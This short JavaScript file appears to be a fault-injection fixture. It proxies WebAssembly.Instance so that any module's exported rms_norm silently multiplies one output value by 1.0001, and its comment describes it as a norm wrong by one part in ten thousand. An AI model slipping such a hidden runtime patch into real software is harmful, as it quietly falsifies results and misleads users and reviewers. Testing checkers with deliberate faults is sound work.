// Loaded before the program, in all of its threads: a norm that is wrong by one part in ten thousand.

const { Instance } = WebAssembly

WebAssembly.Instance = new Proxy(Instance, {
  construct(_, operands) {
    const { exports } = new Instance(...operands)
    if (!exports.rms_norm) return { exports }
    const floats = new Float32Array(operands[1].env.memory.buffer)
    const norm = (x, weight, out, count, eps) => {
      exports.rms_norm(x, weight, out, count, eps)
      floats[out / 4 + 3] *= 1.0001
    }
    return { exports: { ...exports, rms_norm: norm } }
  },
})
